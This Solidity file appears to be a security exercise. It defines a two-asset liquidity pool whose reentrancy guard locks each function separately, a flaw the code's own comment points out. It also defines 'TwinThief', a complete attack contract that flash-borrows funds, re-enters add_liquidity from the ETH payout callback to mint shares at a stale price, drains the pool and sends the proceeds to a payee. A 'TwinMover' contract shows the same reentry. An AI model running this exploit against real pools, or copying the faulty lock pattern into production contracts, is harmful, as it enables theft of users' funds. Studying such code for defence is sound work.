// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// A pool of coins and what stands for them, one to one. Each function locks a slot of its own, where all should share one.
contract TwinPool {
    Token public immutable twin;
    uint256[2] public balances;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(bytes4 => bool) private locked;

    event AddLiquidity(address indexed provider, uint256[2] token_amounts, uint256 token_supply);
    event RemoveLiquidity(address indexed provider, uint256[2] token_amounts, uint256 token_supply);
    event TokenExchange(address indexed buyer, int128 sold_id, uint256 tokens_sold, int128 bought_id, uint256 tokens_bought);

    modifier nonreentrant() {
        require(!locked[msg.sig], "locked");
        locked[msg.sig] = true;
        _;
        locked[msg.sig] = false;
    }

    constructor(Token twin_) {
        twin = twin_;
    }

    function get_virtual_price() external view returns (uint256) {
        return totalSupply == 0 ? 1e18 : (balances[0] + balances[1]) * 1e18 / totalSupply;
    }

    function add_liquidity(uint256[2] calldata amounts, uint256 min_mint) external payable nonreentrant returns (uint256 minted) {
        require(msg.value == amounts[0], "not the coins");
        if (amounts[1] > 0) twin.transferFrom(msg.sender, address(this), amounts[1]);
        uint256 d = balances[0] + balances[1];
        uint256 more = amounts[0] + amounts[1];
        minted = totalSupply == 0 ? more : totalSupply * more / d;
        require(minted >= min_mint, "slippage");
        balances[0] += amounts[0];
        balances[1] += amounts[1];
        totalSupply += minted;
        balanceOf[msg.sender] += minted;
        emit AddLiquidity(msg.sender, amounts, totalSupply);
    }

    function remove_liquidity(uint256 amount, uint256[2] calldata min_amounts) external nonreentrant {
        uint256[2] memory out;
        for (uint256 i = 0; i < 2; i++) {
            out[i] = balances[i] * amount / totalSupply;
            require(out[i] >= min_amounts[i], "slippage");
            balances[i] -= out[i];
            if (i == 0) {
                (bool ok,) = msg.sender.call{value: out[0]}("");
                require(ok, "not paid");
            } else {
                twin.transfer(msg.sender, out[1]);
            }
        }
        totalSupply -= amount;
        balanceOf[msg.sender] -= amount;
        emit RemoveLiquidity(msg.sender, out, totalSupply);
    }

    function exchange(int128 i, int128 j, uint256 dx, uint256 min_dy) external payable nonreentrant returns (uint256 dy) {
        require(i == 0 && j == 1 && msg.value == dx || i == 1 && j == 0 && msg.value == 0, "not so");
        dy = dx * 9_996 / 10_000;
        require(dy >= min_dy, "slippage");
        if (i == 1) {
            twin.transferFrom(msg.sender, address(this), dx);
            (balances[1], balances[0]) = (balances[1] + dx, balances[0] - dy);
            (bool ok,) = msg.sender.call{value: dy}("");
            require(ok, "not paid");
        } else {
            (balances[0], balances[1]) = (balances[0] + dx, balances[1] - dy);
            twin.transfer(msg.sender, dy);
        }
        emit TokenExchange(msg.sender, i, dx, j, dy);
    }
}

/// Borrows coins for the length of a call.
abstract contract CoinBorrower is IBorrower {
    function borrow(FlashLender lender, uint256 amount, bytes memory data) internal {
        lender.flashLoan(this, Token(address(Shop.WETH)), amount, data);
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        Shop.WETH.withdraw(amount);
        work(amount, data);
        Shop.WETH.deposit{value: amount + fee}();
        Token(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function work(uint256 amount, bytes calldata data) internal virtual;
}

/// Adds what it is being paid while the shares for it still count.
contract TwinThief is CoinBorrower {
    TwinPool private pool;
    uint256 private again;

    function run(FlashLender lender, TwinPool pool_, uint256 amount, uint256 again_, address payable payee) external {
        pool = pool_;
        borrow(lender, amount + again_, abi.encode(amount, again_));
        pool.twin().transfer(payee, pool.twin().balanceOf(address(this)));
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    function work(uint256, bytes calldata data) internal override {
        uint256 amount;
        (amount, again) = abi.decode(data, (uint256, uint256));
        uint256 own = pool.add_liquidity{value: amount}([amount, 0], 0);
        pool.remove_liquidity(own, [uint256(0), 0]);
        pool.remove_liquidity(pool.balanceOf(address(this)), [uint256(0), 0]);
        // What came out as the twin is changed into coins as far as there are any.
        uint256 twins = pool.twin().balanceOf(address(this));
        uint256 coins = pool.balances(0);
        uint256 sold = twins < coins ? twins : coins;
        pool.twin().approve(address(pool), sold);
        pool.exchange(1, 0, sold, 0);
    }

    receive() external payable {
        if (msg.sender != address(pool) || again == 0) return;
        uint256 more = again;
        again = 0;
        pool.add_liquidity{value: more}([more, 0], 0);
    }
}

/// Moves a provider's share from one pool to another, and puts into the new one what the old one pays, as it comes.
contract TwinMover {
    TwinPool private from;
    TwinPool private into;

    function run(TwinPool from_, TwinPool into_) external payable {
        (from, into) = (from_, into_);
        uint256 own = from.add_liquidity{value: msg.value}([msg.value, 0], 0);
        from.remove_liquidity(own, [uint256(0), 0]);
        uint256 twins = from.twin().balanceOf(address(this));
        from.twin().approve(address(into), twins);
        into.add_liquidity([0, twins], 0);
        uint256 moved = into.balanceOf(address(this));
        into.remove_liquidity(moved, [uint256(0), 0]);
        from.twin().transfer(msg.sender, from.twin().balanceOf(address(this)));
        (bool ok,) = msg.sender.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (msg.sender == address(from)) into.add_liquidity{value: msg.value}([msg.value, 0], 0);
    }
}
